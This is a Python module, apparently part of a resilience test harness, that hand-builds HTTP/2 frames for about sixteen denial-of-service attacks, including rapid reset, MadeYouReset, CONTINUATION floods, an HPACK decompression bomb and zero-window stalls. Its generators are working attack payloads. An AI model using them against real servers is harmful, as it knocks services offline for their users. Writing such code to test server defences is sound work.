"""The HTTP/2 attacks: which frames each sends, and nothing of what becomes of them.

Frames are built by hand, since a library would refuse to say what these have to say. An attack is told from what a
lively client does only by its amount, so each goes on for as long as somebody takes it.
"""

from dataclasses import dataclass
from itertools import count, repeat

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
CANCEL = 8
INITIAL_WINDOW_SIZE = 4
# The largest frame that need not be agreed on.
FRAME = 16384


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def number(value):
    return value.to_bytes(4, "big")


def setting(name, value):
    return name.to_bytes(2, "big") + number(value)


def literal(index, value):
    """A field with a name of the static table; added to no table."""
    assert index < 15 and len(value) < 127
    return bytes((index, len(value))) + value


def request(stream, path=b"/1k", method=b"\x82", flags=END_STREAM | END_HEADERS):
    """HEADERS of one request: `method` is 0x82 for GET or 0x83 for POST; 0x86 is the scheme http."""
    return frame(HEADERS, flags, stream, method + b"\x86" + literal(4, path) + literal(1, b"localhost"))


def clients_streams():
    return count(1, 2)


@dataclass
class Attack:
    key: str
    title: str
    # Gives bytes and how many frames they are, for as long as it is asked.
    frames: object
    # What the client says in its first SETTINGS.
    settings: bytes = b""
    # Whether the attacker takes what the node sends; one that does not makes the node keep its answers.
    reads: bool = True
    # How many connections it holds at once, each with so many frames; 0 is one connection after the other, without end.
    holds: int = 0


def rapid_reset():
    for stream in clients_streams():
        yield request(stream) + frame(RST_STREAM, 0, stream, number(CANCEL)), 2


def made_you_reset():
    """Never resets anything itself: an update of a stream's window by nothing is an error the node must reset for."""
    for stream in clients_streams():
        yield request(stream) + frame(WINDOW_UPDATE, 0, stream, number(0)), 2


def made_you_reset_by_overflow():
    for stream in clients_streams():
        yield request(stream) + frame(WINDOW_UPDATE, 0, stream, number(2**31 - 1)), 2


def continuations(payload):
    def frames():
        yield request(1, flags=END_STREAM), 1
        yield from repeat((frame(CONTINUATION, 0, 1, payload), 1))

    return frames


def same(piece):
    return lambda: repeat((piece, 1))


def hpack_bomb():
    """A field of nearly the whole table, named 16,000 times in each request by one byte each: 64 MB for 16 KB."""
    value = b"b" * 4000
    name = b"x-bomb"
    # 0x40: literal, to be indexed. The value's length is an integer with a prefix of seven bits.
    length = bytes((0x7F, (len(value) - 127) % 128 | 0x80, (len(value) - 127) // 128))
    start = b"\x82\x86" + literal(4, b"/1k") + literal(1, b"localhost")
    first = start + b"\x40" + bytes((len(name),)) + name + length + value
    # The newest entry of the dynamic table is number 62.
    bomb = start + b"\xbe" * (FRAME - len(start))
    for stream in clients_streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, first if stream == 1 else bomb), 1


def zero_window():
    for stream in clients_streams():
        yield request(stream, b"/64k"), 1


def empty_data():
    yield request(1, method=b"\x83", flags=END_HEADERS), 1
    yield from repeat((frame(DATA, 0, 1), 1))


def endless_streams():
    for stream in clients_streams():
        yield request(stream, method=b"\x83", flags=END_HEADERS), 1


PING_FRAME = frame(PING, 0, 0, b"evenkeel")
SETTINGS_FRAME = frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535))

ALL = [
    Attack("rapid-reset", "rapid reset (CVE-2023-44487)", rapid_reset),
    Attack("made-you-reset", "MadeYouReset, window update of 0 (CVE-2025-8671)", made_you_reset),
    Attack("made-you-reset-2", "MadeYouReset, window overflow", made_you_reset_by_overflow),
    Attack("continuation", "CONTINUATION flood, empty frames", continuations(b"")),
    Attack("continuation-full", "CONTINUATION flood, frames of 16 KiB", continuations(b"\x00\x01x\x01y" * (FRAME // 5))),
    Attack("hpack-bomb", "HPACK bomb, 64 MB in each frame", hpack_bomb),
    Attack("settings", "SETTINGS flood", same(SETTINGS_FRAME)),
    Attack("settings-unread", "SETTINGS flood, answers never read", same(SETTINGS_FRAME), reads=False),
    Attack("ping", "PING flood", same(PING_FRAME)),
    Attack("ping-unread", "PING flood, answers never read", same(PING_FRAME), reads=False),
    Attack("empty-data", "empty DATA flood", empty_data),
    Attack("window-update", "WINDOW_UPDATE flood", same(frame(WINDOW_UPDATE, 0, 0, number(1)))),
    Attack("priority", "PRIORITY flood", same(frame(PRIORITY, 0, 1, number(3) + b"\x00"))),
    Attack("unknown", "flood of frames of an unknown type", same(frame(0x42, 0, 0))),
    Attack("streams", "streams without end, far beyond the limit", endless_streams),
    Attack(
        "zero-window", "zero-window stall, 20 connections of 100 streams", zero_window,
        settings=setting(INITIAL_WINDOW_SIZE, 0), holds=20,
    ),
]  # fmt: skip
